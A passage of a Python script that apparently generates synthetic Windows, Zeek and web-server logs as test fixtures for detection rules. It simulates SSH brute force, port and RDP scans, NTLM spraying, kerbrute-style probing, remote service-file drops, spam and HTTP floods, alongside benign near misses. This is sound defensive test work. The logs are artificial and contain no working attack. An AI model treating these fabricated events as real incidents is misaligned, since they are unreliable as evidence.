        threat = "Trojan:Win32/Kryptik!MTB"
        data = {
            **common,
            "Detection ID": "{6D6B4E42-2F0B-4C7B-9C1B-1E6F3A2B7C55}",
            "Detection Time": when.strftime("%Y-%m-%dT%H:%M:%S.")
            + f"{when.microsecond // 1000:03d}Z",
            "Unused": "",
            "Unused2": "",
            "Threat ID": "2147735503",
            "Threat Name": threat,
            "Severity ID": "5",
            "Severity Name": "Severe",
            "Category ID": "8",
            "Category Name": "Trojan",
            "FWLink": "https://go.microsoft.com/fwlink/?linkid=37020&name="
            + threat
            + "&threatid=2147735503&enterprise=1",
            "Status Code": "1" if event_id == 1116 else "3",
            "Status Description": "",
            "State": "1" if event_id == 1116 else "2",
            "Source ID": "3",
            "Source Name": "%%818",
            "Process Name": "C:\\Windows\\explorer.exe",
            "Detection User": h.user,
            "Unused3": "",
            "Path": "file:_C:\\Users\\a.nurpeisova\\Downloads\\invoice_0314.exe",
            "Origin ID": "4",
            "Origin Name": "%%848",
            "Execution ID": "0",
            "Execution Name": "%%812",
            "Type ID": "0",
            "Type Name": "%%822",
            "Pre Execution Status": "0",
            "Action ID": "2" if event_id == 1117 else "9",
            "Action Name": "%%809" if event_id == 1117 else "%%887",
            "Unused4": "",
            "Error Code": "0x00000000",
            "Error Description": "The operation completed successfully. ",
            "Unused5": "",
            "Post Clean Status": "0",
            "Additional Actions ID": "0",
            "Additional Actions String": "No additional actions required",
            "Remediation User": "NT AUTHORITY\\SYSTEM" if event_id == 1117 else "",
            "Unused6": "",
            "Security intelligence Version": "AV: 1.407.512.0, AS: 1.407.512.0, NIS: 1.407.512.0",
            "Engine Version": "AM: 1.1.24020.9, NIS: 1.1.24020.9",
        }
    elif event_id in (1000, 1001):
        data = {
            **common,
            "Scan ID": "{0E4B1F8C-1D7A-4A0B-9F3E-7C5D2B9A6E11}",
            "Scan Type ID": "1",
            "Scan Type": "%%802",
            "Scan Parameters Index": "1",
            "Scan Parameters": "%%806",
            "Domain": "AKIMAT",
            "User": "SYSTEM",
            "SID": "S-1-5-18",
            "Scan Time Hours": "0" if event_id == 1001 else "",
            "Scan Time Minutes": "3" if event_id == 1001 else "",
            "Scan Time Seconds": "12" if event_id == 1001 else "",
        }
    elif event_id == 2000:
        data = {
            **common,
            "Current security intelligence Version": "1.407.512.0",
            "Previous security intelligence Version": "1.407.488.0",
            "Update Source ID": "3",
            "Update Source": "%%860",
        }
    else:
        data = {
            **common,
            "Old Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\"
            "LastScanRun = 0x1dc75a2",
            "New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\"
            "LastScanRun = 0x1dc75f8",
        }
    level = {1116: 3, 1117: 4}.get(event_id, 4)
    return windows_event(
        DEFENDER,
        event_id,
        when,
        h.sysmon_record,
        h.computer,
        data=data,
        level=level,
        keywords="0x8000000000000000",
        user="S-1-5-18",
        process=(3412, 4120),
    )


def log_cleared(h: Host) -> dict[str, Any]:
    ns = "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
    return eventlog(
        h,
        1102,
        {
            "LogFileCleared": {
                "#attributes": {
                    "xmlns:auto-ns3": "http://schemas.microsoft.com/win/2004/08/events",
                    "xmlns": ns,
                },
                "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
                "SubjectUserName": "adm.kairat",
                "SubjectDomainName": "AKIMAT",
                "SubjectLogonId": "0x18a7875",
            }
        },
    )


def eventlog(h: Host, event_id: int, user_data: dict[str, Any]) -> dict[str, Any]:
    when = h.tick(30)
    h.security_record += 1
    return windows_event(
        EVENTLOG,
        event_id,
        when,
        h.security_record,
        h.computer,
        user_data=user_data,
        level=4,
        task={1102: 104, 1100: 103}.get(event_id, 105),
        keywords="0x4020000000000000",
        process=(856, 2200),
    )


def audit_policy(
    h: Host, subcategory: str, subcategory_id: str, changes: str, *, subject: str = "adm.kairat"
) -> dict[str, Any]:
    """Security 4719 (system audit policy was changed)."""
    machine = subject.endswith("$")
    return h.security(
        4719,
        {
            "SubjectUserSid": "S-1-5-18"
            if machine
            else "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": subject,
            "SubjectDomainName": "AKIMAT",
            "SubjectLogonId": "0x3e7" if machine else "0x18a7875",
            "CategoryId": "%%8273" if subcategory_id == "%%12544" else "%%8274",
            "SubcategoryId": subcategory_id,
            "SubcategoryGuid": subcategory,
            "AuditPolicyChanges": changes,
        },
        task=13568,
    )


# -- Zeek ----------------------------------------------------------------------------------------

UID_CHARS = string.ascii_letters + string.digits


class Zeek:
    """Zeek JSON records. ``iso=True`` writes them as zeek-wrccdc does (``_path``,
    ``_write_ts`` and ISO 8601 times, ``LogAscii::json_timestamps=JSON::TS_ISO8601``), else as
    plain ``LogAscii::use_json=T`` does (epoch seconds, no ``_path``)."""

    def __init__(self, path: str, start: datetime, seed: int, *, iso: bool) -> None:
        self.path = path
        self.when = start
        self.rng = random.Random(seed)
        self.iso = iso

    def uid(self) -> str:
        return "C" + "".join(self.rng.choice(UID_CHARS) for _ in range(17))

    def record(
        self, seconds: float, orig: str, resp: str, resp_port: int, **fields: Any
    ) -> dict[str, Any]:
        self.when += timedelta(seconds=seconds)
        out: dict[str, Any] = {}
        if self.iso:
            out["_path"] = self.path
            out["_write_ts"] = iso(self.when + timedelta(seconds=self.rng.uniform(0.001, 5)))
            out["ts"] = iso(self.when)
        else:
            out["ts"] = round(self.when.timestamp(), 6)
        out["uid"] = self.uid()
        out["id.orig_h"] = orig
        out["id.orig_p"] = self.rng.randrange(32768, 61000)
        out["id.resp_h"] = resp
        out["id.resp_p"] = resp_port
        out.update(fields)
        return out


SERVER_KEY = "ecdsa-sha2-nistp256"


def ssh(
    z: Zeek,
    seconds: float,
    orig: str,
    resp: str,
    *,
    success: bool | None,
    client: str = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13",
    server: str = "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
) -> dict[str, Any]:
    if success is None:  # no authentication attempted: a banner grab
        return z.record(seconds, orig, resp, 22, auth_attempts=0, client=client, server=server)
    return z.record(
        seconds,
        orig,
        resp,
        22,
        version=2,
        auth_success=success,
        auth_attempts=1 if success else 3,
        direction="INBOUND",
        client=client,
        server=server,
        cipher_alg="chacha20-poly1305@openssh.com",
        mac_alg="umac-64-etm@openssh.com",
        compression_alg="none",
        kex_alg="curve25519-sha256",
        host_key_alg=SERVER_KEY,
        host_key="2d:37:6b:11:43:f8:96:08:fe:60:42:20:98:9f:75:af",
    )


def zeek_samples() -> dict[str, list[dict[str, Any]]]:
    files: dict[str, list[dict[str, Any]]] = {}

    z = Zeek("ssh", T0, 21, iso=True)
    auth = [ssh(z, 60, "10.20.0.31", "10.20.1.5", success=True)]
    for n in range(5):  # five failed sessions in four minutes: brute force
        auth.append(
            ssh(
                z,
                40 + n,
                "203.0.113.210",
                "10.20.1.5",
                success=False,
                client="SSH-2.0-libssh_0.9.6",
            )
        )
    auth.append(ssh(z, 300, "198.51.100.211", "10.20.1.5", success=None, client="SSH-2.0-Go"))
    for _ in range(4):  # four in ten minutes: below the threshold
        auth.append(ssh(z, 140, "198.51.100.211", "10.20.1.5", success=False, client="SSH-2.0-Go"))
    auth.append(ssh(z, 30, "10.20.0.31", "10.20.1.5", success=True))
    files["ssh.auth"] = auth

    z = Zeek("ssh", T0 + timedelta(hours=1), 22, iso=False)
    sweep = []
    for n in range(5):  # banner grabs of five servers in two minutes
        sweep.append(
            ssh(z, 20, "192.0.2.212", f"10.20.1.{10 + n}", success=None, client="SSH-2.0-Go")
        )
    for n in range(4):  # configuration management logging into four servers
        sweep.append(
            ssh(
                z,
                70,
                "10.20.0.10",
                f"10.20.1.{10 + n}",
                success=True,
                client="SSH-2.0-paramiko_3.4.0",
            )
        )
    files["ssh.sweep"] = sweep

    z = Zeek("ssh", T0 + timedelta(hours=2), 23, iso=True)
    files["ssh.scanner"] = [
        ssh(z, 10, "203.0.113.213", "10.20.1.5", success=None, client="SSH-2.0-Nmap-SSH2-Hostkey"),
        ssh(z, 10, "203.0.113.213", "10.20.1.6", success=None, client="SSH-1.5-NmapNSE_1.0"),
        ssh(
            z,
            10,
            "203.0.113.214",
            "10.20.1.5",
            success=None,
            client="SSH-2.0-ZGrab ZGrab SSH Survey",
        ),
        ssh(z, 10, "10.20.0.31", "10.20.1.5", success=True),
        ssh(z, 10, "10.20.0.32", "10.20.1.5", success=True, client="SSH-2.0-PuTTY_Release_0.80"),
        ssh(z, 10, "10.20.0.10", "10.20.1.6", success=True, client="SSH-2.0-paramiko_3.4.0"),
        ssh(z, 10, "10.20.0.33", "10.20.1.6", success=True, client="SSH-2.0-libssh_0.10.6"),
    ]

    def rdp(z: Zeek, seconds: float, orig: str, resp: str, cookie: str | None) -> dict[str, Any]:
        fields: dict[str, Any] = {}
        if cookie is not None:
            fields["cookie"] = cookie
        fields.update(result="encrypted", security_protocol="HYBRID", cert_count=0)
        return z.record(seconds, orig, resp, 3389, **fields)

    z = Zeek("rdp", T0 + timedelta(hours=3), 24, iso=True)
    files["rdp.scanner"] = [
        rdp(z, 10, "203.0.113.215", "10.20.2.5", "nmap"),
        rdp(z, 10, "203.0.113.216", "10.20.2.5", "nessus"),
        rdp(z, 10, "203.0.113.216", "10.20.2.5", "rdp_logon_screen.nbin"),
        rdp(z, 10, "10.20.0.31", "10.20.2.5", "kairat"),
        rdp(z, 10, "10.20.0.32", "10.20.2.5", "b.tulegen"),
        rdp(z, 10, "10.20.0.33", "10.20.2.6", None),
    ]
    z = Zeek("rdp", T0 + timedelta(hours=4), 25, iso=False)
    rdp_sweep = [rdp(z, 15, "203.0.113.220", f"10.20.2.{20 + n}", None) for n in range(10)]
    rdp_sweep += [rdp(z, 65, "10.20.0.11", f"10.20.2.{20 + n}", "adm.kairat") for n in range(9)]
    files["rdp.sweep"] = rdp_sweep

    def dns(
        z: Zeek,
        seconds: float,
        orig: str,
        query: str,
        qtype: int,
        name: str,
        rcode: str,
        answers: list[str] | None = None,
    ) -> dict[str, Any]:
        proto = "tcp" if name in ("AXFR", "IXFR") else "udp"
        fields: dict[str, Any] = dict(
            proto=proto,
            trans_id=z.rng.randrange(65536),
            rtt=round(z.rng.uniform(0.0002, 0.003), 6),
            query=query,
            qclass=1,
            qclass_name="C_INTERNET",
            qtype=qtype,
            qtype_name=name,
            rcode={"NOERROR": 0, "REFUSED": 5}[rcode],
            rcode_name=rcode,
            AA=rcode == "NOERROR",
            TC=False,
            RD=name not in ("AXFR", "IXFR", "SOA"),
            RA=False,
            Z=0,
        )
        if answers:
            fields["answers"] = answers
            fields["TTLs"] = [3600.0] * len(answers)
        fields["rejected"] = rcode == "REFUSED"
        return z.record(seconds, orig, "10.20.0.53", 53, **fields)

    z = Zeek("dns", T0 + timedelta(hours=5), 26, iso=True)
    files["dns"] = [
        dns(z, 5, "203.0.113.230", "akimat.local", 252, "AXFR", "REFUSED"),
        dns(z, 5, "10.20.0.31", "akimat.local", 251, "IXFR", "NOERROR", ["ns1.akimat.local"]),
        dns(z, 5, "10.20.0.54", "akimat.local", 6, "SOA", "NOERROR", ["ns1.akimat.local"]),
        dns(z, 5, "10.20.0.31", "portal.akimat.local", 1, "A", "NOERROR", ["10.20.1.80"]),
        dns(z, 5, "10.20.0.31", "akimat.local", 255, "*", "NOERROR", ["ns1.akimat.local"]),
    ]

    def notice(
        z: Zeek,
        seconds: float,
        orig: str,
        resp: str,
        port: int,
        note: str,
        msg: str,
        sub: str | None = None,
    ) -> dict[str, Any]:
        fields: dict[str, Any] = {"proto": "tcp", "note": note, "msg": msg}
        if sub is not None:
            fields["sub"] = sub
        fields.update(
            src=orig,
            dst=resp,
            p=port,
            actions=["Notice::ACTION_LOG"],
            email_dest=[],
            suppress_for=3600.0,
        )
        return z.record(seconds, orig, resp, port, **fields)

    z = Zeek("notice", T0 + timedelta(hours=6), 27, iso=True)
    files["notice"] = [
        notice(
            z,
            5,
            "203.0.113.231",
            "10.20.1.5",
            22,
            "Scan::Port_Scan",
            "203.0.113.231 scanned at least 15 unique ports of host 10.20.1.5 in 0m3s",
            "remote",
        ),
        notice(
            z,
            5,
            "203.0.113.231",
            "10.20.1.9",
            445,
            "Scan::Address_Scan",
            "203.0.113.231 scanned at least 25 unique hosts on port 445/tcp in 0m12s",
            "local",
        ),
        notice(
            z,
            5,
            "203.0.113.210",
            "10.20.1.5",
            22,
            "SSH::Password_Guessing",
            "203.0.113.210 appears to be guessing SSH passwords (seen in 30 connections).",
            "Sampled servers:  10.20.1.5, 10.20.1.5, 10.20.1.5, 10.20.1.5, 10.20.1.5",
        ),
        notice(
            z,
            5,
            "10.20.0.31",
            "10.20.1.80",
            443,
            "SSL::Invalid_Server_Cert",
            "SSL certificate validation failed with (unable to get local issuer certificate)",
            "CN=portal.akimat.local,O=Akimat,C=KZ",
        ),
        notice(
            z,
            5,
            "10.20.0.31",
            "10.20.1.81",
            443,
            "SSL::Certificate_Expires_Soon",
            "Certificate CN=mail.akimat.local,O=Akimat,C=KZ is going to expire at "
            "2026-03-28-00:00:00.000000000",
            "CN=mail.akimat.local,O=Akimat,C=KZ",
        ),
        notice(
            z,
            5,
            "10.20.0.31",
            "10.20.1.5",
            22,
            "SSH::Interesting_Hostname_Login",
            "Possible SSH login involving a local server with an interesting hostname.",
            "bastion01.akimat.local",
        ),
    ]

    def ntlm(z: Zeek, seconds: float, orig: str, user: str | None) -> dict[str, Any]:
        fields: dict[str, Any] = {}
        if user is not None:
            fields.update(username=user, hostname="WIN-8K2M1Q", domainname="AKIMAT")
        fields.update(
            server_nb_computer_name="FS01",
            server_dns_computer_name="fs01.akimat.local",
            server_tree_name="akimat.local",
        )
        if user is not None:
            fields["success"] = False
        return z.record(seconds, orig, "10.20.0.40", 445, **fields)

    users = [
        "a.abenov",
        "b.bekova",
        "d.dosov",
        "e.erlanov",
        "g.galiev",
        "k.kasymova",
        "m.mukanov",
        "n.nurlanova",
        "s.serikov",
        "t.temirov",
    ]
    z = Zeek("ntlm", T0 + timedelta(hours=7), 28, iso=True)
    spray = [ntlm(z, 3, "203.0.113.240", None)]
    for user in users:  # ten names in six minutes
        spray.append(ntlm(z, 36, "203.0.113.240", user))
    for user in users[:9]:  # a terminal server authenticating nine users in ten minutes
        spray.append(ntlm(z, 66, "10.20.0.12", user))
    spray.append(ntlm(z, 3, "10.20.0.12", None))
    files["ntlm"] = spray

    def kerberos(
        z: Zeek, seconds: float, orig: str, client: str, error: str | None
    ) -> dict[str, Any]:
        fields: dict[str, Any] = dict(
            request_type="AS",
            client=f"{client}/AKIMAT.LOCAL",
            service="krbtgt/AKIMAT.LOCAL",
            success=error is None,
        )
        if error is not None:
            fields["error_msg"] = error
        fields.update(
            till="2037-09-13T02:48:05.000000Z",
            cipher="aes256-cts-hmac-sha1-96",
            forwardable=True,
            renewable=True,
        )
        return z.record(seconds, orig, "10.20.0.2", 88, **fields)

    z = Zeek("kerberos", T0 + timedelta(hours=8), 29, iso=True)
    krb = []
    for n, user in enumerate(users):  # kerbrute: unknown names and wrong passwords
        error = "KDC_ERR_C_PRINCIPAL_UNKNOWN" if n % 3 else "KDC_ERR_PREAUTH_FAILED"
        krb.append(kerberos(z, 9, "203.0.113.241", user, error))
    krb.append(kerberos(z, 5, "203.0.113.241", "administrator", "KDC_ERR_PREAUTH_REQUIRED"))
    for _ in range(9):  # a service retrying a stale password: nine in ten minutes
        krb.append(kerberos(z, 66, "10.20.0.13", "svc_backup", "KDC_ERR_PREAUTH_FAILED"))
    krb.append(kerberos(z, 30, "10.20.0.15", "a.nurpeisova", "KDC_ERR_PREAUTH_REQUIRED"))
    krb.append(kerberos(z, 1, "10.20.0.15", "a.nurpeisova", None))
    krb.append(kerberos(z, 30, "10.20.0.16", "b.bekova", "KDC_ERR_WRONG_REALM"))
    files["kerberos"] = krb

    z = Zeek("smb_files", T0 + timedelta(hours=9), 30, iso=True)
    times = {
        "times.modified": "2026-03-14T14:59:18.111192Z",
        "times.accessed": "2026-03-14T14:59:11.777714Z",
        "times.created": "2026-03-14T14:59:11.777714Z",
        "times.changed": "2026-03-14T14:59:18.111192Z",
    }
    files["smb_files"] = [
        z.record(
            5, "203.0.113.242", "10.20.0.40", 445, action="SMB::FILE_OPEN", name="\\svcctl", size=0
        ),
        z.record(
            5,
            "203.0.113.242",
            "10.20.0.41",
            445,
            action="SMB::FILE_OPEN",
            path="\\\\10.20.0.41\\ADMIN$",
            name="Temp\\wdszAPrV.tmp",
            size=196,
            **times,
        ),
        z.record(
            1,
            "203.0.113.242",
            "10.20.0.41",
            445,
            action="SMB::FILE_DELETE",
            path="\\\\10.20.0.41\\ADMIN$",
            name="Temp\\wdszAPrV.tmp",
            size=196,
            **times,
        ),
        # near: ordinary pipes, an SCCM client push, an Office temp file on a file share
        z.record(
            5, "10.20.0.31", "10.20.0.40", 445, action="SMB::FILE_OPEN", name="\\srvsvc", size=0
        ),
        z.record(
            5, "10.20.0.31", "10.20.0.40", 445, action="SMB::FILE_OPEN", name="\\samr", size=0
        ),
        z.record(
            5,
            "10.20.0.5",
            "10.20.0.44",
            445,
            action="SMB::FILE_WRITE",
            path="\\\\HR-PC12\\ADMIN$",
            name="ccmsetup\\ccmsetup.exe",
            size=5_230_144,
            **times,
        ),
        z.record(
            5,
            "10.20.0.31",
            "10.20.0.40",
            445,
            action="SMB::FILE_OPEN",
            path="\\\\fs01\\Public",
            name="Temp\\~WRL0003.tmp",
            size=24_576,
            **times,
        ),
    ]

    def smtp(z: Zeek, seconds: float, orig: str, sender: str | None, helo: str) -> dict[str, Any]:
        fields: dict[str, Any] = {"trans_depth": 1, "helo": helo}
        if sender is not None:
            fields.update(
                mailfrom=sender,
                rcptto=[f"user{z.rng.randrange(1000)}@mail.kz"],
                date="Sat, 14 Mar 2026 19:02:11 +0500",
                **{"from": sender},
                to=["undisclosed-recipients:;"],
                msg_id=f"<{z.uid()}@{helo}>",
                subject="Salem! Sizge sыilyq / Вам подарок",
                last_reply="250 2.0.0 Ok: queued as 4TxQ2M3Zb1z9",
            )
        else:
            fields["last_reply"] = "221 2.0.0 Bye"
        fields.update(path=["10.20.0.25", orig], tls=False, fuids=[], is_webmail=False)
        return z.record(seconds, orig, "10.20.0.25", 25, **fields)

    z = Zeek("smtp", T0 + timedelta(hours=10), 31, iso=False)
    mail = [
        smtp(z, 4.7, "10.20.0.77", f"noreply{n}@akimat-bonus.kz", "HR-PC31") for n in range(100)
    ]  # a spam bot: a hundred in eight minutes
    mail += [
        smtp(z, 6.0, "10.20.0.78", "news@akimat.kz", "newsletter.akimat.local") for _ in range(99)
    ]  # a newsletter: ninety-nine in ten minutes
    mail += [smtp(z, 2, "10.20.0.79", None, "monitor.akimat.local") for _ in range(3)]
    files["smtp"] = mail

    z = Zeek("weird", T0 + timedelta(hours=11), 32, iso=True)
    flood = []
    for _ in range(1000):  # a thousand malformed requests in fifty seconds
        flood.append(
            z.record(
                0.05,
                "203.0.113.250",
                "10.20.1.80",
                80,
                name="bad_HTTP_request",
                notice=False,
                peer="zeek",
                source="HTTP",
            )
        )
    z.when += timedelta(minutes=5)
    for n in range(999):  # nine hundred and ninety-nine in a minute
        flood.append(
            z.record(
                0.06,
                "198.51.100.251",
                "10.20.1.80",
                80,
                name="unknown_HTTP_method" if n % 2 else "bad_HTTP_request",
                notice=False,
                peer="zeek",
                source="HTTP",
            )
        )
    files["weird"] = flood

    # Near misses of the informational base rules: the same connections in other Zeek logs.
    z = Zeek("conn", T0 + timedelta(hours=12), 33, iso=True)
    files["conn"] = [
        z.record(
            5,
            "10.20.0.31",
            "10.20.2.5",
            3389,
            proto="tcp",
            service="ssl,rdp",
            duration=1843.21,
            orig_bytes=2_051_311,
            resp_bytes=9_120_331,
            conn_state="SF",
            local_orig=True,
            local_resp=True,
            missed_bytes=0,
            history="ShADadFf",
            orig_pkts=9120,
            orig_ip_bytes=2_416_120,
            resp_pkts=10_411,
            resp_ip_bytes=9_537_101,
        ),
        z.record(
            5,
            "10.20.0.31",
            "10.20.1.5",
            22,
            proto="tcp",
            service="ssh",
            duration=612.4,
            orig_bytes=41_230,
            resp_bytes=188_120,
            conn_state="SF",
            local_orig=True,
            local_resp=True,
            missed_bytes=0,
            history="ShAdDaFf",
            orig_pkts=811,
            orig_ip_bytes=73_670,
            resp_pkts=902,
            resp_ip_bytes=224_200,
        ),
    ]
    z = Zeek("analyzer", T0 + timedelta(hours=12), 34, iso=True)
    files["analyzer"] = [
        analyzer(z, "HTTP", 80, "not a http request line"),
        analyzer(
            z,
            "RDP",
            3389,
            "Binpac exception: binpac exception: string mismatch at "
            "/usr/src/zeek/src/analyzer/protocol/rdp/rdp-protocol.pac:81: \nexpected "
            'pattern: "Cookie: mstshash\\=" \nactual data: "\\x01"',
        ),
    ]
    return files


def analyzer(z: Zeek, name: str, port: int, reason: str) -> dict[str, Any]:
    """Zeek 6 analyzer.log (the former dpd.log): a protocol violation."""
    z.when += timedelta(seconds=5)
    return {
        "_path": "analyzer",
        "_write_ts": iso(z.when),
        "ts": iso(z.when),
        "cause": "violation",
        "analyzer_kind": "protocol",
        "analyzer_name": name,
        "uid": z.uid(),
        "id.orig_h": "203.0.113.252",
        "id.orig_p": z.rng.randrange(32768, 61000),
        "id.resp_h": "10.20.1.80" if port == 80 else "10.20.2.5",
        "id.resp_p": port,
        "failure_reason": reason,
    }


# -- web bursts ----------------------------------------------------------------------------------

BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)
WORDS = [
    "admin",
    "backup",
    "old",
    "test",
    "dev",
    "api",
    "config",
    "db",
    "sql",
    "temp",
    "upload",
    "private",
    "logs",
    "install",
    "setup",
    "bak",
    "files",
    "data",
    "cms",
    "panel",
    "portal",
    "manager",
    "console",
    "web",
    "site",
    "beta",
    "staging",
    "v1",
    "v2",
    "export",
]
SUFFIXES = ["", "/", ".zip", ".tar.gz", ".old", ".bak", ".sql", ".php", ".asp", ".txt"]


def clf(
    ip: str, when: datetime, request: str, status: int, size: int, agent: str, referer: str = "-"
) -> str:
    stamp = when.astimezone(ALMATY).strftime("%d/%b/%Y:%H:%M:%S %z")
    return f'{ip} - - [{stamp}] "{request}" {status} {size} "{referer}" "{agent}"'


#: Asia/Almaty, UTC+5 nationwide since 2024.
ALMATY = timezone(timedelta(hours=5))


def web_samples() -> dict[str, list[str]]:
    rng = random.Random(41)
    when = datetime(2026, 3, 14, 14, 0, 0, tzinfo=UTC)
    paths = iter(f"/{w}{s}" for w in WORDS for s in SUFFIXES)
    burst = [clf("203.0.113.180", when, "GET / HTTP/1.1", 200, 5120, BROWSER)]
    for n in range(50):  # fifty 404s in about two minutes: content discovery
        when += timedelta(seconds=2 + n % 3)
        if n == 25:
            burst.append(clf("203.0.113.180", when, "GET /robots.txt HTTP/1.1", 200, 68, BROWSER))
        burst.append(clf("203.0.113.180", when, f"GET {next(paths)} HTTP/1.1", 404, 153, BROWSER))
    when += timedelta(minutes=10)
    for n in range(49):  # forty-nine in five minutes: a crawler on a site with dead links
        when += timedelta(seconds=6)
        path = f"/news/2019/{1 + n % 12:02d}/{rng.randrange(1000, 9999)}"
        burst.append(
            clf(
                "198.51.100.181",
                when,
                f"GET {path} HTTP/1.1",
                404,
                153,
                "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            )
        )
        if n % 10 == 0:
            burst.append(
                clf(
                    "198.51.100.181",
                    when,
                    f"GET /news/2019/{n:02d} HTTP/1.1",
                    410,
                    153,
                    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
                )
            )

    when = datetime(2026, 3, 14, 15, 0, 0, tzinfo=UTC)
    flood = []
    for n in range(500):  # five hundred requests in fifty seconds: an HTTP flood
        flood.append(
            clf(
                "203.0.113.190",
                when + timedelta(seconds=n / 10),
                f"GET /?s={rng.randrange(10**8)} HTTP/1.1",
                200,
                5120,
                BROWSER,
            )
        )
    when += timedelta(minutes=5)
    for n in range(499):  # four hundred and ninety-nine in a minute: a load balancer check
        flood.append(
            clf(
                "198.51.100.191",
                when + timedelta(seconds=n * 0.12),
                "GET /api/search?q=" + rng.choice(WORDS) + " HTTP/1.1",
                200,
                812,
                "okhttp/4.12.0",
            )
        )
    return {"not_found_burst.log": burst, "request_flood.log.gz": flood}


# -- writing -------------------------------------------------------------------------------------


def outputs() -> Iterator[tuple[Path, bytes]]:
    """(path, uncompressed content) of every generated file."""
    for name, records in windows_samples().items():
        yield HERE / "windows" / f"{name}.jsonl", jsonl(records)
    for name, records in zeek_samples().items():
        suffix = ".log.gz" if name in ("smtp", "weird") else ".log"
        yield HERE / "zeek" / f"{name}{suffix}", jsonl(records)
    for name, lines in web_samples().items():
        yield HERE / "web" / name, "".join(f"{line}\n" for line in lines).encode()


def jsonl(records: list[dict[str, Any]]) -> bytes:
    return b"".join(json.dumps(r, ensure_ascii=False).encode() + b"\n" for r in records)


def write() -> None:
    for path, content in outputs():
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.suffix == ".gz":
            buffer = io.BytesIO()
            with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0, filename="") as fh:
                fh.write(content)
            content = buffer.getvalue()
        path.write_bytes(content)


if __name__ == "__main__":
    write()
